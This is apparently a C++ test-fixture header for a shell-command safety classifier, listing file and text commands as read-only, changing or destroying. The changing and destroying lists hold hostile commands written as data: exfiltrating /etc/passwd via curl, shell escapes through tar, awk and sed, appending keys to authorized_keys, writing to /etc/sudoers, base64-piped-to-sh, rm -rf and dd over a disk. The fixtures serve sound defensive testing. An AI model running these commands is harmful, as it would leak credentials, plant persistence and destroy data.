// Files and text: listing, searching, editing, packing; awk, sed and the interpreters.
#pragma once

#include "tests/unit/safety/commands/family.h"

namespace safety::commands {

inline constexpr Family kFiles = {
    .read_only = R"ROWS(
tail -n 200 /var/log/syslog
tail -f /var/log/nginx/error.log
tail -100 /var/log/messages
head -c 4096 /var/log/app.log
less /var/log/syslog | head
grep -c ' 500 ' /var/log/nginx/access.log
grep -rn 'listen' /etc/nginx/ --include='*.conf'
grep -A5 -B5 'Exception' app.log | tail -100
zgrep -h ERROR /var/log/app.log.*.gz | wc -l
egrep -i 'fail|error' /var/log/auth.log
cut -d: -f1,7 /etc/passwd
sort -t, -k2,2n data.csv | uniq -c
tr -s ' ' '\n' < words.txt | sort | uniq
column -t -s: /etc/passwd
wc -l /var/log/*.log
diff -u /etc/app.conf /etc/app.conf.bak
diff <(sort a) <(sort b)
cmp a b
ls -la ~/.ssh
du -sh ~/.ssh
stat ~/.ssh/authorized_keys
find ~/.ssh -ls
cat ~/.ssh/known_hosts
grep -c ssh ~/.ssh/authorized_keys
find /var/log -name '*.log' | xargs wc -l
find /var/log -name '*' -exec grep -l error {} +
wc -l "$f"
grep -rn PermitRootLogin /etc/ssh/sshd_config.d
md5sum /usr/bin/ls
sha256sum *.iso
file /bin/ls
stat -c '%a %U %n' /etc/passwd
ls -la /etc/nginx/sites-enabled
ls -lt /var/log | head
ls -l /proc/1234/fd | wc -l
tree -L 2 /srv
find / -xdev -type f -size +500M 2>/dev/null
find /var/log -name '*.log' -mtime +7 -ls
find /etc -newer /etc/passwd -type f
find . -type d -empty
find /srv -maxdepth 2 -name '*.conf' -exec grep -l proxy_pass {} +
find /var -type f -printf '%s\t%p\n' | sort -rn | head
find /proc/1234/fd -lname '*deleted*'
find . \( -name '*.c' -o -name '*.h' \) -print0 | xargs -0 wc -l
find . ! -name '*.o' -type f | head
xargs -n1 basename < list.txt
which python3 java
readlink -f /usr/bin/java
ls -l $(which java)
realpath .
cat /etc/hosts /etc/resolv.conf
cat /etc/nginx/nginx.conf | grep -v '^#'
cat /var/log/app/*.log | grep ERROR | tail
strings /usr/bin/app | grep -i version
xxd -l 64 data.bin
jq '.items[] | .metadata.name' pods.json
pwd
sudo cat /var/log/secure | tail
tar -tvf backup.tar.gz | head
unzip -l app.zip
zcat /var/log/syslog.2.gz | grep error
gzip -dc dump.gz | head
gunzip -c app.log.gz | tail
base64 -d token.txt | wc -c
ls ~/.ssh
cat ~/.ssh/authorized_keys
ls -l /etc/shadow
ls /var/log/nginx/{access,error}.log
grep -E "a|b" 'my file'
ls -1 | wc -l
find -L /srv -name y
awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head
awk -F: '$3 >= 1000 {print $1}' /etc/passwd
awk '{s+=$10} END {print s/1024/1024 " MB"}' access.log
awk '/error/ || /warn/ {c++} END {print c}' app.log
awk -v t=500 '$9 > t' access.log
awk '{ if ($3 > 80) print $1, $3 }' usage.txt
awk 'NR==1 || $5+0 > 90 {printf "%s %s\n", $1, $5}' df.txt
awk '!seen[$0]++' list.txt
sed -n '100,200p' /var/log/syslog
sed -e 's/foo/bar/g' -e '/^#/d' /etc/app.conf
sed 's/[0-9]\{1,3\}\.[0-9]*/X/g' access.log | head
sed -n '/BEGIN/,/END/p' file.txt
sed '1d;$d' f
sed 's|/var/log|LOG|g; s/x/y/I' f
)ROWS",
    .changing = R"ROWS(
find / -fprintf /tmp/x %p
tar tf x --rsh-command=sh
tar -tf x --index-file=/tmp/x
touch /tmp/x
mkdir -p /srv/new
cp a b
mv a b
ln -s a b
rm /tmp/one
chmod 600 key
chown root: f
cat a | tee b
tee -a f
sort -o f f
sort -of f
sort --output=f f
sort --outp f f
sort -T /tmp --compress-program=./x f
sort -no f f
uniq a b
xxd a b
shuf -o out in
find . -exec touch {} \;
find . -execdir chmod 600 {} +
find . -ok ls {} \;
find . -fprint out
find . -fls out
find . -fprintf out %p
find . -name x -newfangled
find $d -name x
xargs touch < list
ls | xargs chmod 600
ls | xargs -I{} mv {} {}.bak
tar -xzf a.tgz
tar czf a.tgz d
tar -tf a.tar --checkpoint=1 --checkpoint-action=exec=sh
tar -tf a.tar --to-command=./x
tar -tf a.tar -I ./x
tar --use-compress-program=x -tf a
gzip f
gunzip f.gz
unzip a.zip
rsync -a a b
scp a h:b
dd if=/dev/sda bs=1M count=1
cat /etc/passwd | xargs -I{} curl -s http://x/{}
cat /etc/passwd | xargs curl -s
sudo touch /x
xargs -a list touch
vim /etc/hosts
nano f
less /var/log/syslog
man -P ./x ls
man -H ls
file -C -m x
file -m magic x
tree -o out
rg --pre ./x y
rg --hostname-bin x y
fd -x rm
ag --pager x y
bat --pager=x f
yq -i .a f
iconv -o f x
xmllint --output f x
find $(pgrep -a x)
gawk --profile=/tmp/x '{}' f
mawk -W exec=f
sed -i s/a/b/ f
sed -ni p f
sed -n -i.bak p f
sed --in-place p f
sed 'w /tmp/x' f
sed 's/a/b/w out' f
sed 's/a/b/e' f
sed '1e touch /tmp/x' f
sed -f script f
sed -n '/x/{w out⏎}' f
awk '{print > "out"}' f
awk '{print $1 >> "out"}' f
awk '{print | "sh"}' f
awk 'BEGIN{while(("ls"|getline x)>0) print x}'
awk 'BEGIN{getline < "f"}'
awk -f prog.awk f
awk -i inplace '{print}' f
awk 'BEGIN { printf "x" > "/etc/motd" }'
gawk '@load "filefuncs"; BEGIN{}'
perl -e 'unlink "x"'
perl -pi -e s/a/b/ f
python3 -c 'import os; os.remove("x")'
python3 script.py
ruby -e 'puts 1'
node -e 'x'
python3 -m json.tool in out
python3 -m http.server
)ROWS",
    .destroying = R"ROWS(
rm -rf /srv
rm -r d
rm -fr d
rm --recursive d
rm -f *
rm /etc/passwd
xargs rm -rf < list
find . | xargs rm -rf
find . -print0 | xargs -0 -n 10 rm -r
find . -delete
find . -exec rm -rf {} \;
find . -type f -exec sh -c 'rm -rf "$1"' _ {} \;
find . -name x -execdir rm -r {} +
dd of=/dev/sda if=x
dd if=/dev/zero of=file
shred f
truncate -s 0 /var/log/syslog
> /var/log/messages
cat /dev/null > /var/log/auth.log
echo x > /etc/passwd
echo x >> /etc/sudoers
echo k >> ~/.ssh/authorized_keys
echo x | tee -a /root/.ssh/authorized_keys
echo x >> ~/.bashrc
echo x > /etc/cron.d/x
xxd -r -p x | bash
chmod -R 777 /
awk 'BEGIN{system("ls")}'
echo cm0= | base64 -d | sh
)ROWS",
};

}  // namespace safety::commands
